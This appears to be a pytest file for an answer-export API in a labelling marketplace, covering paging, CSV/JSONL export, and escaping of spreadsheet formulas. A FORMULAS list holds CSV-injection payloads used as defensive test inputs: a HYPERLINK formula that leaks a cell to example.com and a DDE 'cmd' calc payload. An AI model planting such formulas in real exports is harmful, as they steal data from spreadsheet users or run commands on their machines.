"""Answers: paged listing with provenance and the streamed CSV/JSONL export."""

from __future__ import annotations

import csv
import io
import json

import pytest
from sqlalchemy import select

from base.identity import Role
from market.catalogue import results
from market.catalogue.batches import publish_batch
from market.catalogue.imports import import_items
from market.catalogue.models import Item
from tests.factories import account, answer, auth, items, jsonl, project


@pytest.fixture
def setup(session, clock):
    owner, token = account(session, Role.REQUESTER, now=clock())
    proj = project(session, owner, now=clock())
    items(session, proj, 3, now=clock())
    batch, _ = publish_batch(session, project_id=proj.id, account=owner, now=clock())
    workers = [account(session, Role.WORKER, now=clock())[0] for _ in range(2)]
    its = list(session.scalars(select(Item).where(Item.batch_id == batch.id).order_by(Item.id)))
    made = []
    for n, it in enumerate(its):
        for w in workers:
            clock.advance(seconds=30)
            made.append(answer(session, it, w, "pos" if n % 2 else "neg", now=clock(), duration_ms=1000 + n,
                               guideline_version=1 + n // 2))
    return proj, token, workers, its, made


def test_answers_page_with_provenance(client, setup):
    proj, token, workers, its, made = setup
    page = client.get(f"/api/v1/projects/{proj.id}/answers?limit=4", headers=auth(token)).get_json()
    assert [a["answer_id"] for a in page["data"]] == [a.id for a in made[:4]]
    first = page["data"][0]
    assert first["worker_id"] == workers[0].id and first["item_id"] == its[0].id
    assert first["external_id"] == its[0].external_id and first["answer"] == "neg"
    assert first["duration_ms"] == 1000 and first["guideline_version"] == 1 and not first["is_gold"]
    assert first["submitted_at"].endswith("+00:00")
    rest = client.get(f"/api/v1/projects/{proj.id}/answers?after={page['next_after']}",
                      headers=auth(token)).get_json()
    assert [a["answer_id"] for a in rest["data"]] == [a.id for a in made[4:]] and rest["next_after"] is None
    by_worker = client.get(f"/api/v1/projects/{proj.id}/answers?worker_id={workers[1].id}",
                           headers=auth(token)).get_json()["data"]
    assert {a["worker_id"] for a in by_worker} == {workers[1].id} and len(by_worker) == 3
    by_item = client.get(f"/api/v1/projects/{proj.id}/answers?item_id={its[2].id}", headers=auth(token)).get_json()
    assert [a["guideline_version"] for a in by_item["data"]] == [2, 2]


def test_csv_export(client, setup):
    proj, token, workers, its, made = setup
    resp = client.get(f"/api/v1/projects/{proj.id}/answers/export?format=csv", headers=auth(token))
    assert resp.status_code == 200 and resp.mimetype == "text/csv"
    assert "attachment" in resp.headers["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(resp.get_data(as_text=True))))
    assert len(rows) == 6
    assert rows[0]["external_id"] == its[0].external_id and rows[0]["answer"] == "neg"
    assert rows[5]["worker_id"] == str(workers[1].id) and rows[5]["guideline_version"] == "2"
    assert rows[5]["duration_ms"] == "1002" and rows[5]["is_gold"] == "false"


def test_jsonl_export(client, setup):
    proj, token, _, _, made = setup
    resp = client.get(f"/api/v1/projects/{proj.id}/answers/export?format=jsonl", headers=auth(token))
    assert resp.mimetype == "application/x-ndjson"
    lines = [json.loads(line) for line in resp.get_data(as_text=True).splitlines()]
    assert [line["answer_id"] for line in lines] == [a.id for a in made]
    assert set(lines[0]) == set(results.EXPORT_COLUMNS)


def test_export_is_paged_and_streamed(session, setup, monkeypatch):
    proj, *_ = setup
    monkeypatch.setattr(results, "EXPORT_PAGE", 4)
    calls = []
    real = results.list_answers
    monkeypatch.setattr(results, "list_answers", lambda *a, **k: calls.append(k["after"]) or real(*a, **k))
    chunks = list(results.export_lines(session, project=proj, fmt="jsonl"))
    assert len(chunks) == 6 and len(calls) == 2  # two keyset pages of 4, not one big query


# OWASP's "CSV Injection": a cell starting with one of = + - @ tab CR is a formula to a spreadsheet.
FORMULAS = ['=HYPERLINK("http://example.com/?leak="&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\tpadded", "\rreturn", "="]
PLAIN = ["-0.5", "+3", "1e-3", "plain", "a=b", "", " =spaced", "mid\rline"]


def test_csv_export_escapes_text_that_spreadsheets_would_run(session, clock):
    owner, _ = account(session, Role.REQUESTER, now=clock())
    proj = project(session, owner, now=clock(), label_schema={"type": "text"})
    texts = FORMULAS + [p for p in PLAIN if p]  # an answer is never empty
    import_items(session, project=proj, stream=io.BytesIO(jsonl(
        [{"external_id": t, "data": {}} for t in texts])), fmt="jsonl", now=clock())
    publish_batch(session, project_id=proj.id, account=owner, now=clock())
    worker, _ = account(session, Role.WORKER, now=clock())
    by_ext = {i.external_id: i for i in session.scalars(select(Item).where(Item.project_id == proj.id))}
    for text in texts:
        answer(session, by_ext[text], worker, text, now=clock())
    rows = list(csv.DictReader(io.StringIO("".join(results.export_lines(session, project=proj, fmt="csv")))))
    for row, text in zip(rows, texts, strict=True):
        quote = "'" if text in FORMULAS else ""
        assert (row["answer"], row["external_id"]) == (quote + text, quote + text)
        assert row["worker_id"] == str(worker.id) and row["is_gold"] == "false"  # numbers and our own words
    lines = "".join(results.export_lines(session, project=proj, fmt="jsonl")).splitlines()
    assert [json.loads(line)["answer"] for line in lines] == texts  # JSON is data, never run


def test_negative_ratings_are_numbers_in_the_csv_export(session, clock):
    owner, _ = account(session, Role.REQUESTER, now=clock())
    proj = project(session, owner, now=clock(), label_schema={"type": "rating", "min": -3, "max": 3})
    items(session, proj, 1, now=clock())
    publish_batch(session, project_id=proj.id, account=owner, now=clock())
    worker, _ = account(session, Role.WORKER, now=clock())
    answer(session, session.scalar(select(Item).where(Item.project_id == proj.id)), worker, -3, now=clock())
    text = "".join(results.export_lines(session, project=proj, fmt="csv"))
    assert list(csv.DictReader(io.StringIO(text)))[0]["answer"] == "-3"


def test_multi_choice_answers_in_csv_use_pipes(session, clock):
    owner, _ = account(session, Role.REQUESTER, now=clock())
    proj = project(session, owner, now=clock(), label_schema={
        "type": "multi_choice", "categories": [{"key": "a", "name": "A"}, {"key": "b", "name": "B"}]})
    items(session, proj, 1, now=clock())
    publish_batch(session, project_id=proj.id, account=owner, now=clock())
    worker, _ = account(session, Role.WORKER, now=clock())
    answer(session, session.scalar(select(Item).where(Item.project_id == proj.id)), worker, ["a", "b"], now=clock())
    text = "".join(results.export_lines(session, project=proj, fmt="csv"))
    assert list(csv.DictReader(io.StringIO(text)))[0]["answer"] == "a|b"
